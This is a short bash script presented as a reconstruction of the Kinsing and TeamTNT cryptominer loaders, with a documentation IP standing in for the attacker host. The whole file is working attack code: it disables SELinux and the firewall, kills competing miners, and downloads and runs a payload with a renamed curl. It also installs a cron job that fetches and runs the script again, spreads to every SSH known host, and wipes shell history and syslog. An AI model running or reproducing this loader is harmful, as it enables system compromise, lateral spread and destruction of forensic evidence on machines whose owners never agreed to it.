#!/bin/bash
# reconstructed from vendor reports of Kinsing d.sh and TeamTNT loaders: no real payload, documentation addresses
ulimit -n 65535
export PATH=$PATH:/bin:/usr/bin:/usr/local/bin:/usr/sbin
setenforce 0 2>/dev/null
ufw disable
chattr -i /etc/ld.so.preload
rm -f /etc/ld.so.preload
mv /usr/bin/curl /usr/bin/cd1
mv /usr/bin/wget /usr/bin/wd1
pkill -f kdevtmpfsi
ps aux | grep -v grep | grep 'xmrig' | awk '{print $2}' | xargs kill -9
netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs kill -9
systemctl stop aliyun.service
cd1 -fsSL http://203.0.113.20/kinsing -o /tmp/kinsing && chmod +x /tmp/kinsing && /tmp/kinsing
(crontab -l 2>/dev/null; echo "* * * * * cd1 -fsSL http://203.0.113.20/d.sh | sh > /dev/null 2>&1") | crontab -
chattr +i /var/spool/cron/crontabs/root
for h in $(awk '{print $1}' ~/.ssh/known_hosts | cut -d, -f1); do
  ssh -oBatchMode=yes -oStrictHostKeyChecking=no root@$h 'cd1 -fsSL http://203.0.113.20/d.sh | sh' &
done
echo 0 > /proc/sys/kernel/nmi_watchdog
history -c
rm -rf /var/log/syslog
